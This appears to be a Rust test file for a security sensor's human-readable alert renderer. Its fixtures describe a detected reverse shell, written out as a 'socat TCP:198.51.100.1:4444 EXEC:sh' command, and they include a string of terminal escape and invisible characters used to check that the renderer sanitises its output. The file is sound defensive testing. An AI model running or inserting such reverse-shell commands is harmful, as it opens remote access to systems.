//! The alert as a block of text for people.

use super::{CREATED, alert, connection, document, exec, extras, finding, life, lineage, process};
use proptest::prelude::*;
use sensor::alert::{Finding, mark, repeated};
use sensor::event::ecs::Extras;
use sensor::event::{Ancestor, Direction};
use sensor::render::block::block;
use sensor::render::look::Look;
use serde_json::{Value, json};
use unicode_width::UnicodeWidthStr as _;

fn at(width: usize) -> Look {
    Look { width, colour: false }
}

fn usual(direction: Direction) -> Value {
    alert(&connection(direction, &extras()), &exec(&["bash", "-i"], &extras()))
}

/// What no text on a terminal may hold, and no line wider than that.
fn is_harmless(text: &str, width: usize) {
    for line in text.lines() {
        assert!(line.width() <= width, "{} columns of {width}: {line}", line.width());
    }
    let bad = |one: char| one.is_control() && one != '\n' || sensor::alert::text::is_invisible(one);
    assert!(!text.contains(bad), "{text:?}");
}

#[test]
fn the_block_for_people() {
    let alert = usual(Direction::Attempted);
    let id = alert["event"]["id"].as_str().unwrap();
    let container = "c".repeat(64);
    let expected = format!(
        "ALERT medium 47: Potential Reverse Shell via Child (reverse-shell-via-child)
  2026-05-28T20:26:42.013000001Z

  socat1 pid 7, uid 0, called socat
  \u{2502} socat TCP:198.51.100.1:4444 EXEC:sh
  \u{2514}\u{2500} bash pid 4242, www-data (33), effective 0
     \u{251c}\u{2500}  0 ms  10.0.0.9:40000 \u{2500}\u{2500}\u{25b6} 198.51.100.1:4444 outbound
     \u{2514}\u{2500} 13 ms  /usr/bin/bash bash -i

  why         bash (pid 4242, user www-data) executed \"bash -i\" 13 ms after the same process
              connected to 198.51.100.1:4444
  directory   /var/www
  file        inode 77 on 8:1, owner 0, group 5, mode 4755, removed
  session     led by pid 7, terminal 136:3
  container   web ({container})
  image       registry.example.org/web:1
  pod         shop/web-7d4b9
  host        web1
  degraded    something is not seen
  alert id    {id}

"
    );
    let text = block(&alert, at(100));
    assert_eq!(text, expected);
    // Read back from a file it is the same.
    let stored: Value = serde_json::from_str(&alert.to_string()).unwrap();
    assert_eq!(block(&stored, at(100)), expected);
}

#[test]
fn on_a_narrow_terminal_nothing_is_lost() {
    let text = block(&usual(Direction::Accepted), at(60));
    let tree = "
  socat1 pid 7, uid 0, called socat
  \u{2502} socat TCP:198.51.100.1:4444 EXEC:sh
  \u{2514}\u{2500} bash pid 4242, www-data (33), effective 0
     \u{251c}\u{2500}  0 ms  10.0.0.9:40000 \u{25c0}\u{2500}\u{2500} 198.51.100.1:4444 inbound
     \u{2514}\u{2500} 13 ms  /usr/bin/bash bash -i
";
    assert!(text.contains(tree), "{text}");
    assert!(
        text.starts_with("ALERT medium 47: Potential Reverse Shell via Child\n  (reverse-shell-via-child)\n"),
        "{text}"
    );
    is_harmless(&text, 60);
}

#[test]
fn what_an_attacker_writes_does_not_reach_the_terminal_as_it_is() {
    let evil = "\u{1b}]0;owned\u{7}\n\u{202e}gnp.\u{200b}\r";
    let extras = Extras { user: Some(evil.to_owned()), ..extras() };
    let arguments = ["bash", "-i", evil, &"x".repeat(20_000), "\u{6f22}\u{5b57}end"];
    let alert = alert(&connection(Direction::Attempted, &extras), &exec(&arguments, &extras));
    assert_eq!(alert["process"]["args"][2], json!(evil), "the document keeps what it was given");
    assert!(alert["message"].as_str().unwrap().contains(r"\u{1b}]0;owned\u{7}\u{a}\u{202e}gnp.\u{200b}\u{d}"));
    for width in [24, 60, 80, 200] {
        let text = block(&alert, at(width));
        is_harmless(&text, width);
        assert!(text.len() < 8000 && text.contains("\u{5b57}end"), "{text}");
    }
    let text = block(&alert, at(200));
    assert!(text.contains(r"bash -i '\u{1b}]0;owned\u{7}\u{a}\u{202e}gnp.\u{200b}\u{d}' xxx"), "{text}");
    assert!(text.contains("characters]\u{2026}"), "{text}");
}

#[test]
fn colour_is_only_between_the_words() {
    let alert = usual(Direction::Attempted);
    let coloured = block(&alert, Look { width: 80, colour: true });
    assert!(coloured.starts_with("\u{1b}[1m\u{1b}[33mALERT medium 47:\u{1b}[0m"), "{coloured:?}");
    let mut plain = String::new();
    let mut rest = &coloured[..];
    while let Some((before, after)) = rest.split_once('\u{1b}') {
        plain += before;
        rest = after.split_once('m').unwrap().1;
    }
    assert_eq!(plain + rest, block(&alert, at(80)));
}

#[test]
fn the_tree_begins_with_the_oldest_known_ancestor() {
    let mut alert = usual(Direction::Attempted);
    let ancestors: Vec<Value> = (0..6).map(|place| json!({"pid": 7 - place, "name": format!("p{place}")})).collect();
    alert["sensor"]["ancestors"] = json!(ancestors);
    alert["sensor"]["more_ancestors"] = json!(true);
    alert["process"]["parent"]["entity_id"].take();
    let text = block(&alert, at(80));
    let places: Vec<usize> =
        ["older ancestors", "p5 pid 2", "p4", "p3", "p2", "p1 pid 6", "socat1 pid 7", "bash pid 4242"]
            .map(|one| text.find(one).unwrap())
            .to_vec();
    assert!(places.is_sorted(), "{text}");
    is_harmless(&text, 80);
    is_harmless(&block(&alert, at(24)), 24);
}

#[test]
fn a_connection_of_an_ancestor_stands_below_that_ancestor() {
    let mut alert = usual(Direction::Attempted);
    let parent = alert["process"]["parent"].clone();
    alert["sensor"]["sequence"][0]["process"] = parent;
    let text = block(&alert, at(80));
    let at = |part: &str| text.find(part).unwrap();
    assert!(at("socat1") < at("10.0.0.9:40000") && at("10.0.0.9:40000") < at("bash pid"), "{text}");
}

#[test]
fn what_the_document_has_is_shown_and_nothing_else() {
    let mut alert = usual(Direction::Attempted);
    alert["sensor"]["stdio"] = json!([{"fd": 0, "type": "socket", "inode": 5}, {"fd": 1, "type": "socket"}, "pipe"]);
    alert["sensor"]["matched_rules"] = json!(["reverse-shell-via-child", "shell-on-socket"]);
    alert["tags"] = json!(["sensor-selftest"]);
    let text = block(&alert, at(100));
    for line in [
        "  stdio       0 socket 5; 1 socket; 2 pipe\n",
        "  also        shell-on-socket\n",
        "  tags        sensor-selftest\n",
    ] {
        assert!(text.contains(line), "{line}{text}");
    }
    for document in
        [json!({}), json!([]), json!(null), json!({"process": 5, "sensor": {"sequence": [1, {}], "ancestors": 3}})]
    {
        assert_eq!(block(&document, at(80)), "ALERT : an alert of an unknown rule\n\n  a process\n\n\n", "{document}");
    }
}

#[test]
fn an_alert_is_marked_with_what_was_lost_before_it() {
    let lost = life::losses();
    let (mut marked, unmarked) = (usual(Direction::Attempted), usual(Direction::Attempted));
    mark(&mut marked, "lost", lost.to_json());
    assert_eq!(marked["sensor"]["lost"], lost.to_json());
    let text = block(&marked, at(100));
    assert!(text.contains("\n  lost before elasticsearch: documents_dropped: 1, exec: ring_full: 2\n"), "{text}");
    assert!(unmarked["sensor"].get("lost").is_none() && !block(&unmarked, at(100)).contains("lost"));
}

#[test]
fn repetitions_and_assumptions_are_said() {
    let mut many = usual(Direction::Attempted);
    repeated(&mut many, 17, CREATED, CREATED);
    assert!(block(&many, at(100)).contains("\n  repeats     the last of 17 since 2026-05-28T20:26:40.123456789Z\n"));
    let (extras, nothing) = (extras(), json!({}));
    let exec = exec(&["bash", "-i"], &extras);
    let assumed = document(&Finding { connection: None, ..finding(&nothing, &exec) }, CREATED);
    let text = block(&assumed, at(100));
    assert!(
        text.contains("\n  assumed     connection\n") && !text.contains("0 ms") && !text.contains("outbound"),
        "{text}"
    );
}

#[test]
fn the_parent_is_one_with_its_entry_among_the_ancestors() {
    let Ancestor { key, .. } = lineage().ancestors.remove(0);
    assert_eq!(key, process(7));
    assert_eq!(block(&usual(Direction::Attempted), at(100)).matches("socat1 pid 7").count(), 1);
}

/// Any JSON, often with the names that a document has.
fn anything() -> impl Strategy<Value = Value> {
    let name = prop::sample::select(vec![
        "process",
        "parent",
        "args",
        "name",
        "pid",
        "user",
        "id",
        "sensor",
        "sequence",
        "ancestors",
        "stdio",
        "source",
        "ip",
        "port",
        "destination",
        "event",
        "action",
        "message",
        "rule",
        "severity",
        "@timestamp",
        "process.parent.args",
        "host",
        "container",
    ]);
    let text = "\\PC{0,20}|[\u{0}-\u{a0}\u{200b}-\u{206f}\u{4e00}-\u{4e20}]{0,300}";
    let leaf = prop_oneof![
        text.prop_map(Value::from),
        any::<u32>().prop_map(Value::from),
        Just(Value::Null),
        Just(json!(true))
    ];
    leaf.prop_recursive(5, 200, 8, move |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..6).prop_map(Value::from),
            proptest::collection::vec((name.clone(), inner), 0..8)
                .prop_map(|members| members.into_iter().map(|(name, value)| (name.to_owned(), value)).collect()),
        ]
    })
}

proptest! {
    #[test]
    fn any_document_is_shown_without_harm(document in anything(), width in 24..220_usize) {
        is_harmless(&block(&document, at(width)), width);
    }

    #[test]
    fn any_arguments_are_shown_without_harm(arguments in proptest::collection::vec("\\PC{0,40}|[\u{0}-\u{a0}]{0,400}", 0..6), width in 24..220_usize) {
        let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
        let alert = alert(&connection(Direction::Attempted, &extras()), &exec(&arguments, &extras()));
        is_harmless(&block(&alert, at(width)), width);
    }
}
